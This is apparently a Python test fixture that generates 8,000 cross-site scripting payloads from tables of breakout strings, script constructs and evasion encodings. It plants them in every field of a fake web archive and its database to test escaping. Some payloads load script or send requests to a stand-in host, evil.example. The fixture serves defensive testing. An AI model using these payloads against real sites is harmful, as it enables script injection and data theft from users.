"""Eight thousand ways to smuggle script into a page, made by combining: where to break out, what to run, how to write it.

# ruff: noqa: E501 - tables of hostile text
"""

# ruff: noqa: E501 - tables of hostile text

from __future__ import annotations

import html
import random
import shutil
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing
from itertools import product
from pathlib import Path
from urllib.parse import quote

from tests.readingroom.archive import METADATA, Piece, Shop, Version, write

PAYLOADS = 8_000
TOGETHER = 80
"""Payloads of one article, each in every field of it: so few pages that a browser can open all."""
COLUMNS = 20
"""Payloads that one of the tables with odd names has as names of its columns."""
EVIL = "https://evil.example"
OUT = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", '" ', "' ", "` ", "</a>", "\x02\x03",
    "</noscript>", "</svg>", "*/", "\\\"'>", "</template></select>", "\x00<",
)  # fmt: skip
ACTS = (
    "<script>{run}</script>", "<script src={evil}/{n}.js></script>", "<img src=x onerror={run}>", "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x>", "<iframe srcdoc='<script>{run}</script>'>",
    "<iframe src=javascript:{run}>", "<a href=javascript:{run}>x</a>", "<details open ontoggle={run}>x", "<body onload={run}>",
    "<input autofocus onfocus={run}>", "<video src=x onerror={run}>", "<object data=javascript:{run}>", "<embed src={evil}/{n}>",
    "<base href={evil}/{n}/>", "<meta http-equiv=refresh content='0;url={evil}/{n}'>", "<link rel=stylesheet href={evil}/{n}.css>",
    "<form action={evil}/{n}><button autofocus>x</button></form>", "<style>@import '{evil}/{n}.css';</style>",
    "<p style='background:url({evil}/{n}.png)'>x", "<math><mtext><img src=x onerror={run}></math>", "onmouseover={run} x=",
    "javascript:{run}", "data:text/html,<script>{run}</script>", "{{{{ {run} }}}}", "{{% if 1 %}}<img src=x onerror={run}>{{% endif %}}",
    "<img srcset='{evil}/{n}.png 2x'>", "<marquee onstart={run}>x</marquee>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)  # fmt: skip
RUNS = (
    "hurt({n})",
    "alert({n})",
    "confirm({n})",
    "prompt({n})",
    "hurt`{n}`",
    "fetch('{evil}/{n}')",
    "top.hurt({n})",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" if char in "<>\"'=():" else char for char in text)


WRITES: tuple[Callable[[str], str], ...] = (
    str, str.swapcase, html.escape, lambda text: html.escape(html.escape(text)), quote, lambda text: quote(quote(text)), _entities,
    lambda text: text.replace("<", "<\n").replace(":", "\t:"), lambda text: text.replace("<s", "<\x00s").replace("java", "java\x00"),
    lambda text: text.replace("<", "<<"), lambda text: text.replace(" ", "/"), lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<script", "<scr<script>ipt"), lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"), lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("java", "&#x6A;a&#118;a").replace("(", "&lpar;"), lambda text: text.replace("=", " = "),
    lambda text: text.replace("javascript", "\x01javascript"), lambda text: text + "<!--",
)  # fmt: skip


def payloads(seed: int = 7) -> list[str]:
    """All of them; the number of each stands in it, and before it as `#n`, so that what is shown can be counted."""
    drawn = random.Random(seed)
    every = drawn.sample(list(product(OUT, ACTS, WRITES)), PAYLOADS)
    return [_payload(n, *parts, drawn) for n, parts in enumerate(every)]


def _payload(n: int, out: str, act: str, write_: Callable[[str], str], drawn: random.Random) -> str:
    run = drawn.choice(RUNS).format(n=n, evil=EVIL)
    made = out + write_(act.format(run=run, n=n, evil=EVIL))
    return made if act.startswith(("java", "data")) and not out else f"#{n} {made}"


def pieces(every: list[str]) -> Iterator[tuple[Shop, Piece]]:
    """A site and an article for each TOGETHER payloads, with every payload in every field."""
    for at in range(0, len(every), TOGETHER):
        some = every[at : at + TOGETHER]
        line, key = " ".join(some), f"evil-{at // TOGETHER}"
        shop = Shop(key, line, some[0], "en")
        versions = tuple(
            Version(
                f"2026-03-0{day}T00:00:00Z",
                change,
                f"{day} {line}",
                f"{line} {day}",
                (f"Common {day}", *some),
                1,
                1,
            )
            for day, change in ((1, "first"), (2, "headline"))
        )
        yield shop, Piece(
            key, some[1], ", ".join(one.replace(", ", " ") for one in some), f"2026-03-01T00:00:{at % 60:02}Z", versions,
            language=some[2], section=line, kind="article", access=some[3], tags=tuple(some),
            removed=tuple((one, one) for one in some), html="".join(f"<p>{one}</p>" for one in some),
            other_urls=tuple((one, "article", one) for one in some), image=(some[4], line, line),
        )  # fmt: skip


def build(folder: Path) -> Path:
    """An archive of nothing but payloads, with tables and columns that are called like them."""
    write(folder, list(pieces(every := payloads())))
    shutil.copy(METADATA, folder / "metadata.yml")
    with closing(sqlite3.connect(folder / "archive.db")) as connection:
        for at in range(0, 400, COLUMNS):
            some = [one.replace("\x00", "0").replace("]", ")") for one in every[at : at + COLUMNS]]
            columns = ", ".join(f"{_quoted(one)} text" for one in some)
            connection.execute(f"create table {_quoted(some[0])} ({columns})")
            connection.execute(f"insert into {_quoted(some[0])} values ({', '.join('?' * len(some))})", some)
        connection.execute(
            "update captures set headers = json_array(json_array(url, url)), content_type = url, reason = url"
        )
        connection.execute(
            "update crawls set state = (select title from articles), software = (select title from articles)"
        )
        connection.commit()
    return folder


def _quoted(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'
